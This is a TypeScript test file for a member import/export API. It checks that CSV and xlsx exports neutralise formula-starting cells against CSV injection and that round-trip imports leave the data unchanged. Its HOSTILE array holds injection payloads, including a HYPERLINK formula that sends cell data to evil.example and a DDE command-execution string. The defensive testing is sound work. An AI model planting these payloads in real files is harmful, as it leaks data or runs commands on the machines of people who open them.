// Exports never hand a spreadsheet program a formula (OWASP's CSV-injection rule): cells starting with
// = + - @ (or a tab or CR) are written with an apostrophe, in CSV and xlsx alike, and import back unchanged.
import { createTestApi, globalId, seed, type TestApi } from "@wz/testkit";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

let api: TestApi;
beforeAll(async () => {
  api = await createTestApi();
});
afterAll(() => api.close());

const IMPORT = `mutation ($input: ImportMembersInput!) { importMembers(input: $input) {
  rows created matched updated unchanged failed userErrors { field message } warnings { message } } }`;
const EXPORT = `query ($input: ExportMembersInput!) { exportMembers(input: $input) { content rowCount } }`;

// what an attacker would put in a self-edited profile or a spreadsheet: names and companies as formulas
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];

describe("member export", () => {
  it("neutralises formula cells in CSV and xlsx, and the files import back unchanged", async () => {
    const chamber = await seed(api.db.db).chamber();
    const secretary = await chamber.secretary();
    const chamberId = globalId("Chamber", chamber.id);
    const csv =
      "name,mobile,company\n" +
      HOSTILE.map(
        (value, i) => `"${value.replaceAll('"', '""')}",+39 333 123456${i},"${value.replaceAll('"', '""')}"`,
      ).join("\n") +
      "\n";
    const imported = (await api.data(IMPORT, { input: { chamberId, csv } }, secretary.token)).importMembers;
    expect(imported).toMatchObject({ created: 4, failed: 0, userErrors: [] });

    const exportAs = async (format: string) =>
      (await api.data(EXPORT, { input: { chamberId, format } }, secretary.token)).exportMembers as {
        content: string;
        rowCount: number;
      };
    const asCsv = await exportAs("CSV");
    expect(asCsv.rowCount).toBe(4);
    // no line holds a cell that starts a formula: each such cell starts with an apostrophe
    const cells = asCsv.content
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .slice(1)
      .filter(Boolean)
      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, "")));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const value of HOSTILE) expect(asCsv.content).toContain(`'${value.replaceAll('"', '""')}`);
    // an international mobile starts with + too: neutralised on the way out, the same number on the way back
    expect(asCsv.content).toContain("'+393331234560");

    const asXlsx = await exportAs("XLSX");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(asXlsx.content, "base64") as unknown as ArrayBuffer);
    const values: string[] = [];
    workbook.worksheets[0]!.eachRow((row, line) => {
      if (line > 1) row.eachCell((cell) => values.push(String(cell.value ?? "")));
    });
    expect(values.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(workbook.worksheets[0]!.getCell("A2").formula).toBeUndefined();

    for (const [label, input] of [
      ["csv", { chamberId, csv: asCsv.content }],
      ["xlsx", { chamberId, csv: "", xlsx: asXlsx.content }],
    ] as const) {
      const back = (await api.data(IMPORT, { input }, secretary.token)).importMembers;
      expect(back, label).toMatchObject({ rows: 4, unchanged: 4, created: 0, matched: 0, updated: 0, failed: 0 });
      expect(back.userErrors, label).toEqual([]);
    }
    const names = await api.data(
      `query ($id: ID!) { node(id: $id) { ... on Chamber { members(first: 10) { edges { node {
        merchant { name } } } } } } }`,
      { id: chamberId },
      secretary.token,
    );
    const stored = names.node.members.edges.map((e: { node: { merchant: { name: string } } }) => e.node.merchant.name);
    expect(stored.sort()).toEqual([...HOSTILE].sort());
  });
});
